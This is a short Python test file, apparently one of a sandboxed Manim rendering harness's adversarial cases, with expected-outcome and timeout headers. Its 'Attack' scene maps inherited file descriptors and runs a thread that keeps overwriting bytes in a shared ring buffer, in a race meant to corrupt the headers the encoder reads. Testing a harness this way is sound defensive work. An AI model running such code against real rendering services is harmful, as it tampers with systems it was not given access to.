"""Changes the headers of what the encoder is reading."""
# expect: completed output_invalid scene_error crashed time_limit
# job: timeout_s=6
# tries: no
import mmap
import threading

from manim import *


class Attack(Scene):
    def construct(self):
        def race():
            while True:
                ring[4096:4160] = b"\xff" * 64
                ring[4096:4160] = bytes(64)

        for fd in range(3, 64):
            try:
                ring = mmap.mmap(fd, 8 << 20)
                threading.Thread(target=race, daemon=True).start()
                break
            except (OSError, ValueError):
                continue
        for _ in range(20):
            self.play(Rotate(Square()), run_time=0.3)
